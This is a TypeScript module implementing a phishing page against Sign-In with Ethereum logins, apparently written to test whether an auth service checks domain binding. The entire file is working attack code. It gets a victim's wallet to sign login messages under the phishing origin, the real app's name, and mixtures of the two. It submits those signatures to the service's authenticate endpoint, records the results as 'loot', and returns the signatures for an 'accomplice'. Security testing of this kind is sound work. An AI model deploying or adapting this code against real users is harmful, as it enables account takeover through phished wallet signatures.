/** What a phishing page got for its tries, by name: the status and the code of the answer. */
export type PhishingResults = Record<string, { status: number; code: string | null } | { blocked: true }>;

interface Provider {
  request(args: { method: string; params: unknown[] }): Promise<unknown>;
}

interface Prey {
  readonly serviceUrl: string;
  readonly appId: string;
  /** Of the app that the victim means to log in to. */
  readonly realOrigin: string;
}

/**
 * A page that looks like the app and is on another origin. Its visitor connects their wallet and signs whatever it shows:
 * with a nonce that the service gave, under the page's own name, the app's name, and mixtures of both. Runs in that page.
 */
export async function phish({ serviceUrl, appId, realOrigin }: Prey): Promise<{
  loot: PhishingResults;
  /** What was signed under the page's own name, for an accomplice outside of any browser. */
  signed: { message: string; signature: string }[];
}> {
  const provider = await new Promise<Provider>((resolve) => {
    window.addEventListener('eip6963:announceProvider', (event) =>
      resolve((event as CustomEvent<{ provider: Provider }>).detail.provider),
    );
    window.dispatchEvent(new Event('eip6963:requestProvider'));
  });
  const [account] = (await provider.request({ method: 'eth_requestAccounts', params: [] })) as string[];
  const real = new URL(realOrigin);
  const loot: PhishingResults = {};
  const signed: { message: string; signature: string }[] = [];

  async function request(path: string, body: unknown): Promise<Response | null> {
    const headers = { 'content-type': 'application/json', 'privy-app-id': appId };
    return fetch(`${serviceUrl}${path}`, { method: 'POST', headers, body: JSON.stringify(body) }).catch(
      () => null,
    );
  }
  async function tell(name: string, answer: Response | null): Promise<void> {
    const body = (await answer?.json().catch(() => null)) as { code?: string } | null | undefined;
    loot[name] = answer ? { status: answer.status, code: body?.code ?? null } : { blocked: true };
  }

  const start = await request('/api/v1/siwe/init', { address: account });
  await tell('a nonce', start?.clone() ?? null);
  const nonce =
    ((await start?.json().catch(() => null)) as { nonce?: string } | null)?.nonce ?? 'a'.repeat(32);
  const names: [name: string, domain: string, uri: string][] = [
    ['the page’s own name', location.host, location.origin],
    ['the app’s name', real.host, real.origin],
    ['the app’s name and the page’s address', real.host, location.origin],
    ['the page’s name and the app’s address', location.host, real.origin],
  ];
  for (const [name, domain, uri] of names) {
    const message = [
      `${domain} wants you to sign in with your Ethereum account:\n${account}`,
      'By signing, you are proving you own this wallet and logging in.',
      `URI: ${uri}\nVersion: 1\nChain ID: 1\nNonce: ${nonce}\nIssued At: ${new Date().toISOString()}`,
    ].join('\n\n');
    const signature = (await provider.request({
      method: 'personal_sign',
      params: [message, account],
    })) as string;
    signed.push({ message, signature });
    const body = { message, signature, chainId: 'eip155:1', walletClientType: null, connectorType: null };
    await tell(name, await request('/api/v1/siwe/authenticate', body));
  }
  return { loot, signed };
}
